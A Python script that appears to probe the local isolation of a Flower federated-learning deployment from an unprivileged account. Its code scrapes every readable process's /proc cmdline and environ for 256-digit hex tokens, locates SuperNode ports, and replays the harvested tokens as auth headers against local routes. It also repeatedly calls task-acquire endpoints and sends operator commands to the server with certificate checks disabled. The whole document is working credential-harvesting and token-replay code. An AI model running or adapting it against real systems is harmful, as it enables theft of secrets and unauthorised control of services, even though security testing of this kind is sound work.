"""Another account of the machine: it reads what it can, asks Flower's ports at nodes for all there
is, and commands Flower's server: python local_account.py ABOUT.json, until its input ends. What it
got goes to stdout.
"""

from __future__ import annotations

import encodings.idna  # noqa: F401  after setuid nothing more may be importable
import http.client
import json
import os
import re
import select
import socket
import ssl
import sys
import time
from pathlib import Path

NOBODY = 65534
TOKEN = re.compile(r"(?<![0-9a-f])[0-9a-f]{256}(?![0-9a-f])")
LARGEST = 1 << 16  # bytes that it reads of a file


def read(path: str) -> str:
    try:
        with open(path, "rb") as file:
            return file.read(LARGEST).decode(errors="replace")
    except OSError:
        return ""


def ports(folder: str) -> dict[int, str]:
    """{port: command line} of the SuperNodes of a federation."""
    found = {}
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        command = read(f"/proc/{pid}/cmdline")
        if "flower-supernode" in command and folder in command:
            words = command.split("\0")
            found[int(words[words.index("--port") + 1])] = command
    return found


def tokens(told: dict[str, str]) -> None:
    """Add {token: what the file says} of all processes' files that can be read."""
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        for name in ("cmdline", "environ", "comm", "status", "stat", "maps"):
            text = read(f"/proc/{pid}/{name}")
            told |= dict.fromkeys(TOKEN.findall(text), text[:400])


def opened(command: str) -> list[str]:
    """The files and sockets named on a command line that it can use, but for certificates."""
    found = []
    for path in re.findall(r"/[^\0\"]+", command):
        place = Path(path)
        if place.suffix == ".pem" or "bin/" in path:
            continue
        with socket.socket(socket.AF_UNIX) as door:
            try:
                door.connect(path)
                found.append(path)
            except OSError:
                found += [path] if read(path) else []
    return found


def call(port: int, secure: bool, method: str, path: str, body: bytes, more: dict) -> tuple:
    """-> status, body; (0, b"") if nothing came."""
    place = ("127.0.0.1", port)
    trusting = ssl._create_unverified_context() if secure else None
    kind = http.client.HTTPSConnection if secure else http.client.HTTPConnection
    link = kind(*place, timeout=5, context=trusting) if secure else kind(*place, timeout=5)
    try:
        link.request(method, path, body, more)
        answer = link.getresponse()
        return answer.status, answer.read(LARGEST)
    except (OSError, http.client.HTTPException):
        return 0, b""
    finally:
        link.close()


def main() -> None:
    about = json.loads(Path(sys.argv[1]).read_text())
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    acquire, kind = bytes.fromhex(about["acquire"]), {"content-type": about["type"]}
    got: dict[str, str] = {}  # what answered with anything but a refusal
    told: dict[str, str] = {}
    tries, files, there, late = 0, [], {}, 0.0
    commands: set[str] = set()  # what Flower's server answered to a command
    while not select.select([sys.stdin], [], [], 0)[0]:
        for port, command in (there := ports(about["folder"])).items():
            files += opened(command)
            for secure in (True, False):
                for _ in range(20):
                    where = "POST", "/v1/runtime/acquire-task"
                    status, body = call(port, secure, *where, acquire, kind)
                    tries += status > 0
                    if 200 <= status < 300:
                        got[" ".join(where)] = got.get(" ".join(where)) or body.hex()[:80]
        for path, body in about["commands"].items():
            for more in about["operators"]:
                status, _ = call(
                    about["port"], True, "POST", path, bytes.fromhex(body), kind | more
                )
                commands |= {f"{path} {status}"} if status else set()
        if time.monotonic() > late:
            late = time.monotonic() + 5
            tokens(told)
            for port in there:
                for secure in (True, False):
                    for method, path in about["routes"]:
                        for token in (None, "", "0" * 256, *told):
                            more = kind if token is None else kind | {about["header"]: token}
                            status, body = call(port, secure, method, path, b"", more)
                            if 200 <= status < 300:
                                got[f"{method} {path}"] = body.hex()[:80]
    mine = [text for text in told.values() if any(f"127.0.0.1:{p}" in text for p in there)]
    found = {"got": got, "told": mine, "files": files, "tries": tries}
    print(json.dumps(found | {"commands": sorted(commands)}))


if __name__ == "__main__":
    main()
